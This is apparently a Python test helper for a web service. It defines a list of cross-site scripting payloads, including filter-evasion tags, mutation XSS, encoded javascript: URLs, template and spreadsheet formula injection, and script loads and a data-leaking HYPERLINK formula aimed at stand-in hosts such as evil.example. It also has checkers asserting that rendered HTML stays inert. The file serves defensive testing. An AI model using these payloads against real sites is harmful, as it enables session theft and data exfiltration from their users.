"""Cross-site scripting payloads and a checker that HTML from the service is inert.

The payloads follow the OWASP XSS filter evasion cheat sheet, mutation XSS from the
DOMPurify and Google research write-ups, `javascript:` URLs in many encodings, and
spreadsheet formula injection. Each one that would run sets `window.__xss` or calls
`alert`, so a browser test can tell that it ran.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

RUN = "window.__xss=1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    "<img src=x onerror=alert(1)>",
    f'<IMG SRC="javascript:{RUN}">',
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    f"<IMG SRC=`javascript:{RUN}`>",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x31&#x29>",
    f'<IMG SRC="jav\tascript:{RUN};">',
    f'<IMG SRC="jav&#x09;ascript:{RUN};">',
    f'<IMG SRC="jav&#x0A;ascript:{RUN};">',
    f'<IMG SRC=" &#14;  javascript:{RUN};">',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
    f"<<SCRIPT>{RUN};//<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    f"</TITLE><SCRIPT>{RUN};</SCRIPT>",
    f'<INPUT TYPE="IMAGE" SRC="javascript:{RUN};">',
    f'<BODY BACKGROUND="javascript:{RUN}">',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    f'<img onerror={RUN} src>">',
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f'<a href="jav&#x09;ascript:{RUN}">click me</a>',
    f'<a href="javascript&colon;{RUN}">click me</a>',
    f'<a href="&#106;avascript:{RUN}">click me</a>',
    f'<a href="\x01javascript:{RUN}">click me</a>',
    f'<a href=" javascript:{RUN}">click me</a>',
    f"javascript:{RUN}",
    "JaVaScRiPt:alert(1)",
    f"javascript://example.com/%0A{RUN}",
    f"javascript:/*http://example.com*/{RUN}",
    f'http://example.com/"onmouseover="{RUN}',
    f"http://example.com/'onmouseover='{RUN}",
    f"http://example.com/<script>{RUN}</script>",
    f'https://example.com/?q="><img src=x onerror={RUN}>',
    f"www.example.com/`onmouseover={RUN}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f'<style>@import "javascript:{RUN}";</style>',
    f'<div style="background:url(javascript:{RUN})">styled</div>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'"><script>{RUN}</script>',
    f"';{RUN};//",
    f"</textarea><script>{RUN}</script>",
    f"</div></li></ol><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    "{{constructor.constructor('window.__xss=1')()}} ${7*7} <%= 7*7 %>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u202egnp.exe see https://example.com/\u202etxt.exe",
]

SAFE_SCHEMES = {"http", "https", "mailto"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def scheme(url: str) -> str:
    """A URL's scheme as a browser reads it (it skips whitespace and controls)."""
    compact = _INVISIBLE.sub("", url).lower()
    return compact.split(":", 1)[0] if ":" in compact else ""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.other: list[str] = []
        self.scripts: list[str] = []  # inline script code
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)
        else:
            self.text.append(data)

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")


def parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert_body(body: str, text: str) -> None:
    """A message `body`: shown as HTML it reads exactly as `text`, and its only markup is
    links to http(s) or mailto that open apart (rel="nofollow noopener")."""
    parsed = parse(body)
    assert not parsed.other, parsed.other
    for tag, attrs in parsed.tags:
        assert tag == "a", (tag, body)
        assert set(attrs) <= {"href", "rel", "target", "dir"}, attrs
        assert scheme(attrs["href"] or "") in SAFE_SCHEMES, attrs
        assert attrs["rel"] == "nofollow noopener", attrs
    assert "".join(parsed.text) == text, (body, text)


def assert_no_script(html: str, allowed: set[tuple[str, str]]) -> None:
    """A page: no tag and attribute beyond `allowed` (taken from a page of the same
    template without payloads), no event handler, no script URL, no inline script, and
    scripts only from this origin."""
    parsed = parse(html)
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, attrs)
            assert scheme(value or "") not in {"javascript", "vbscript"}, (tag, attrs)
            assert scheme(value or "") != "data" or (tag, name) == ("link", "href"), attrs
            assert (tag, name) in allowed or (tag == "a" and name == "dir"), (tag, attrs)
        if tag == "script":
            src = attrs.get("src") or ""
            assert src.startswith("/") and not src.startswith("//"), attrs
    assert not [code for code in parsed.scripts if code.strip()], parsed.scripts
    for tag in {tag for tag, _ in parsed.tags}:
        assert tag in {t for t, _ in allowed} or tag == "a", tag


def tags_and_attributes(html: str) -> set[tuple[str, str]]:
    """Every (tag, attribute) pair on a page, and (tag, "") for each tag."""
    parsed = parse(html)
    pairs = {(tag, "") for tag, _ in parsed.tags}
    pairs |= {(tag, name) for tag, attrs in parsed.tags for name in attrs}
    return pairs
